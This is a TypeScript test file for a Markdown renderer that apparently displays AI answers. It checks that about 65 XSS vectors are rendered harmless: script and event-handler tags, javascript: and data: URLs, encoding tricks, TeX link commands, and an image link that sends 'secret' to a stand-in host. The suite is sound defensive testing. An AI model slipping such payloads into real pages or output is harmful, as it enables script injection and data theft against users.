/* What a hostile answer might try: nothing of it becomes more than text or a harmless link. */
import { cleanup, render } from "@testing-library/preact";
import { afterEach, describe, expect, test } from "vitest";
import { LiveMarkdown, Markdown } from "../../src/markdown/blocks";
import { atOnce } from "./at_once";
import { MarkdownStream } from "../../src/markdown/stream";
import { mathElements } from "../../src/markdown/tex";

const vectors = [
  "<script>alert(1)</script>",
  "<SCRIPT SRC=//x.example/x.js></SCRIPT>",
  "text <script>alert(1)</script> text",
  "<img src=x onerror=alert(1)>",
  "a <img src=x onerror=alert(1)> b",
  "<img/src/onerror=alert(1)>",
  "<svg onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
  "<iframe src=javascript:alert(1)></iframe>",
  '<iframe srcdoc="<script>alert(1)</script>">',
  "<object data=javascript:alert(1)>",
  "<embed src=javascript:alert(1)>",
  "<a href=javascript:alert(1)>x</a>",
  "<body onload=alert(1)>",
  "<details open ontoggle=alert(1)>",
  "<video><source onerror=alert(1)>",
  "<math><mtext><script>alert(1)</script></mtext></math>",
  "<style>@import 'http://x.example/x.css'</style>",
  "<link rel=stylesheet href=http://x.example>",
  '<meta http-equiv=refresh content="0;url=http://x.example">',
  "<base href=http://x.example>",
  "<form action=http://x.example><input name=q autofocus onfocus=alert(1)>",
  "<button formaction=javascript:alert(1)>x</button>",
  "<!-- --><script>alert(1)</script>",
  "<![CDATA[<script>alert(1)</script>]]>",
  "<?php echo '<script>alert(1)</script>' ?>",
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert(1))",
  "[x](java\nscript:alert(1))",
  "[x](<java\tscript:alert(1)>)",
  "[x](javascript&#58;alert(1))",
  "[x](javascript&colon;alert(1))",
  "[x](&#106;&#97;vascript:alert(1))",
  "[x](\u0001javascript:alert(1))",
  "[x](  javascript:alert(1))",
  "[x](vbscript:msgbox(1))",
  "[x](data:text/html,<script>alert(1)</script>)",
  "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  "[x](file:///etc/passwd)",
  "[x](blob:http://x.example/1)",
  "[x](//x.example/x)",
  "[x]\n\n[x]: javascript:alert(1)",
  "<javascript:alert(1)>",
  "![x](javascript:alert(1))",
  "![x](http://x.example/steal?q=secret)",
  "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
  "![x](data:text/html,<script>alert(1)</script>)",
  '![x](data:image/png;base64,AAAA" onerror="alert(1))',
  '[x](http://a.example "\\" onmouseover=\\"alert(1)")',
  '[x](http://a.example/"onmouseover="alert(1))',
  "[![x](javascript:alert(1))](javascript:alert(2))",
  "```<script>alert(1)</script>\ncode\n```",
  '```"onmouseover="alert(1)\n</code></pre><script>alert(1)</script>\n```',
  "`<script>alert(1)</script>`",
  "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
  "# <img src=x onerror=alert(1)>",
  "> <iframe src=http://x.example>",
  "- <script>alert(1)</script>",
  "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;",
  "$\\href{javascript:alert(1)}{x}$",
  "$$\\url{javascript:alert(1)}$$",
  "$\\includegraphics{http://x.example/x.png}$",
  "$\\htmlData{x=y}{z} \\htmlId{app}{x}$",
  "$\\text{<script>alert(1)</script>}$",
];
const FORBIDDEN = "script, iframe, object, embed, svg, style, link, meta, base, form, video, audio, source, button:not(.md-copy)";
const SAFE_TARGET = /^(?:https?:\/\/|mailto:|#)/;
const SAFE_SOURCE = /^data:image\/(?:png|jpeg|gif|webp);base64,[A-Za-z0-9+/=]+$/;
const ATTRIBUTES = new Set(
  "class href title target rel src alt dir tabindex role aria-label type disabled checked start scope".split(" "),
);

afterEach(cleanup);

function expectHarmless(root: Element): void {
  expect(root.querySelector(FORBIDDEN)).toBeNull();
  for (const element of root.querySelectorAll("*")) {
    if (element.closest("math")) continue;
    for (const name of element.getAttributeNames()) expect(ATTRIBUTES).toContain(name);
    if (element.hasAttribute("href")) expect(element.getAttribute("href")).toMatch(SAFE_TARGET);
    if (element.hasAttribute("src")) expect(element.getAttribute("src")).toMatch(SAFE_SOURCE);
  }
}

describe.each(vectors)("%j", (vector) => {
  test("stored", () => expectHarmless(render(<Markdown text={vector} />).container));

  test("while it grows", () => {
    const stream = new MarkdownStream(atOnce);
    const { container } = render(<LiveMarkdown stream={stream} />);
    for (const character of vector) {
      stream.push(character);
      expectHarmless(container);
    }
  });
});

test.each(["\\href{javascript:alert(1)}{x}", "\\url{http://x.example}", "\\includegraphics{http://x.example/x.png}", "\\htmlId{app}{x}"])(
  "TeX fetches and links nothing: %s",
  (tex) => {
    const { container } = render(<div>{mathElements(tex, true)}</div>);
    expect(container.querySelector("[href], [src], [id], a, img")).toBeNull();
  },
);

test("a link tells its target and nothing of this page", () => {
  const { getByRole } = render(<Markdown text="[safe](https://a.example/?q=1&amp;r=2)" />);
  const link = getByRole("link", { name: "safe" });
  expect(link.getAttribute("href")).toBe("https://a.example/?q=1&r=2");
  expect(link.getAttribute("title")).toBe("https://a.example/?q=1&r=2");
  expect(link.getAttribute("rel")).toBe("noopener noreferrer nofollow");
  expect(link.getAttribute("target")).toBe("_blank");
});
